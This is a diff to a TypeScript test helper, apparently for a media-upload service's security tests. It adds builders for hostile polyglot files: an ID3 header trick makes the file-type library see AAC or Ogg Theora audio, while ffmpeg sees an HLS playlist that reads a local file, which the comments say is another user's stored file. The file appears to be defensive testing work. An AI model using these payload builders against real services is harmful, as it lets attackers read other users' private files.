@@ -1,6 +1,7 @@
 import { execFile } from 'node:child_process';
 import { readdirSync, statSync } from 'node:fs';
 import { mkdtemp } from 'node:fs/promises';
+import { createRequire } from 'node:module';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
@@ -155,3 +156,55 @@ export const pathOf = (url: string) => {
   const u = new URL(url);
   return u.pathname + u.search;
 };
+
+/**
+ * The ffmpeg builds the product may run, each once: the one on PATH (Debian's) and the static build
+ * @ffmpeg-installer/ffmpeg ships as the fallback (an old 4.x).
+ */
+export function ffmpegBuilds(): { name: string; bin: string }[] {
+  const require = createRequire(import.meta.url);
+  const fallback = (require('@ffmpeg-installer/ffmpeg') as { path: string }).path;
+  const onPath = resolveFfmpeg();
+  return onPath === fallback
+    ? [{ name: 'the npm fallback ffmpeg', bin: fallback }]
+    : [
+        { name: 'the ffmpeg on PATH', bin: onPath },
+        { name: 'the npm fallback ffmpeg', bin: fallback },
+      ];
+}
+
+/**
+ * ID3v2.4 header with the footer flag set and a size of 0. file-type skips 10 bytes (the header),
+ * ffmpeg skips 20 (header and footer): the two read different bytes as the start of the file.
+ */
+const ID3_FOOTER_ZERO = Buffer.from('49443304001000000000', 'hex');
+
+/** An HLS playlist whose one segment is a local file. */
+const playlistOf = (target: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:7\n#EXTINF:7,\nfile://${target}\n#EXT-X-ENDLIST\n`;
+
+/**
+ * The hostile "audio" file: file-type sees ID3 then an ADTS frame header (audio/aac); ffmpeg, left to
+ * probe, sees an HLS playlist that plays `target` (another user's stored file).
+ */
+export function adtsDisguisedPlaylist(target: string): Buffer {
+  return Buffer.concat([ID3_FOOTER_ZERO, Buffer.from([0xff, 0xf1, 0x50, 0x80]), Buffer.alloc(6), Buffer.from(playlistOf(target))]);
+}
+
+/**
+ * The hostile "video" file: file-type sees ID3, then an Ogg page whose first packet (28 bytes in) is a
+ * Theora identification header (video/ogg); ffmpeg, left to probe, sees from byte 20 an HLS playlist
+ * (the line holding `\x80theora` starts with '#', so the playlist parser skips it) that plays `target`.
+ */
+export function theoraDisguisedPlaylist(target: string): Buffer {
+  const oggPage = Buffer.from([0x4f, 0x67, 0x67, 0x53, 0x00, 0x02, 0x00, 0x00, 0x00, 0x00]); // "OggS", version 0, first page
+  const file = Buffer.concat([
+    ID3_FOOTER_ZERO,
+    oggPage,
+    Buffer.from('#EXTM3U\n#', 'latin1'),
+    Buffer.alloc(9, 0x2d),
+    Buffer.from('\x80theora\x03\x02\x01\n', 'latin1'),
+    Buffer.from(playlistOf(target).slice('#EXTM3U\n'.length)),
+  ]);
+  if (file.toString('latin1', 38, 45) !== '\x80theora') throw new Error('the Theora header must sit 28 bytes into the Ogg page');
+  return file;
+}
